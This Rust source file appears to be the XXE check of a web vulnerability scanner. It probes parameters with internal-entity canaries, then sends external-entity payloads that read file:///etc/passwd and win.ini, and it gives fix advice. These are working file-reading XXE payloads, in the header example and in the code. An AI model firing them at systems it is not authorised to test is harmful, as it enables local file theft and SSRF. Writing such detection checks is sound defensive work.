//! XML external entity injection.
//!
//! What: every parameter first gets a small XML document whose DOCTYPE defines two internal
//! entities, `<r>&a;&b;</r>`; only a parser that processes the DTD prints their concatenation
//! (a random marker that appears nowhere in the request). Where it does, the parameter is XML
//! parsed with DTDs on, and documents with an external entity naming a file every system has
//! (`file:///etc/passwd`, `file:///c:/windows/win.ini`) follow. A finding needs the file's known
//! content in the answer, absent from the baseline and from a control document without a DTD
//! sent to the same parameter. Parsers that expand internal entities but refuse external ones
//! (lxml's default, `resolve_entities="internal"`) are not reported.
//!
//! Why: external entities read local files, reach internal services (SSRF) and exhaust memory.
//!
//! Example: `xml=<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>` →
//! `root:x:0:0:root:/root:/bin/bash`.
//!
//! References: CWE-611 (Improper Restriction of XML External Entity Reference); OWASP
//! WSTG-INPV-07.

use super::traversal::SYSTEM_FILE;
use crate::checks::{Info, ParamCheck, Probe, canary};
use crate::error::ScanError;
use crate::finding::{Finding, Severity};

/// The check.
pub const CHECK: ParamCheck = ParamCheck { name: "xxe", run };

const INFO: Info = Info {
    id: "xxe.external_entity",
    title: "XML external entity injection",
    cwe: 611,
    severity: Severity::High,
    fix: "Parse untrusted XML with DTDs and external entities off (lxml: resolve_entities=False, no_network=True; Java: disallow-doctype-decl; defusedxml in Python).",
};

/// Files every Unix or Windows system has, as `file:` URLs.
const FILES: [&str; 2] = ["file:///etc/passwd", "file:///c:/windows/win.ini"];

const PROLOG: &str = "<?xml version=\"1.0\"?>";

fn run(probe: &Probe<'_>) -> Result<Option<Finding>, ScanError> {
    if SYSTEM_FILE.is_match(&probe.baseline.body) {
        return Ok(None);
    }
    // Two halves defined as internal entities: the whole marker exists only once expanded.
    let (a, b) = (canary("plxa"), canary("plxb"));
    let internal = internal_document(&a, &b);
    let expanded = probe.send(&internal)?;
    if !expanded.body.contains(&format!("{a}{b}")) {
        return Ok(None);
    }
    for file in FILES {
        let value = format!("{PROLOG}<!DOCTYPE r [<!ENTITY x SYSTEM \"{file}\">]><r>&x;</r>");
        let exchange = probe.send(&value)?;
        let Some(content) = SYSTEM_FILE
            .find(&exchange.body)
            .map(|m| m.as_str().trim_end().to_owned())
        else {
            continue;
        };
        let control_value = format!("{PROLOG}<r>{}</r>", canary("plxc"));
        let control = probe.send(&control_value)?;
        if SYSTEM_FILE.is_match(&control.body) {
            return Ok(None);
        }
        return Ok(Some(probe.finding(
            &INFO,
            &exchange,
            &content,
            format!(
                "internal entities are expanded ({a}{b}); the external entity {file} returned {content:?}, \
                 absent from the baseline and from a control document without a DTD"
            ),
        )));
    }
    Ok(None)
}

/// A document whose DOCTYPE defines `&a;` and `&b;`; only expansion puts `a` and `b` side by
/// side.
fn internal_document(a: &str, b: &str) -> String {
    format!("{PROLOG}<!DOCTYPE r [<!ENTITY a \"{a}\"><!ENTITY b \"{b}\">]><r>&a;&b;</r>")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn an_echo_of_the_probe_never_looks_expanded() {
        // An application that prints its input back must not pass for an expanding parser.
        let document = internal_document("plxaone", "plxbtwo");
        assert!(document.contains("plxaone") && document.contains("plxbtwo"));
        let escaped = document.replace('<', "&lt;").replace('>', "&gt;");
        assert!(!document.contains("plxaoneplxbtwo") && !escaped.contains("plxaoneplxbtwo"));
    }
}
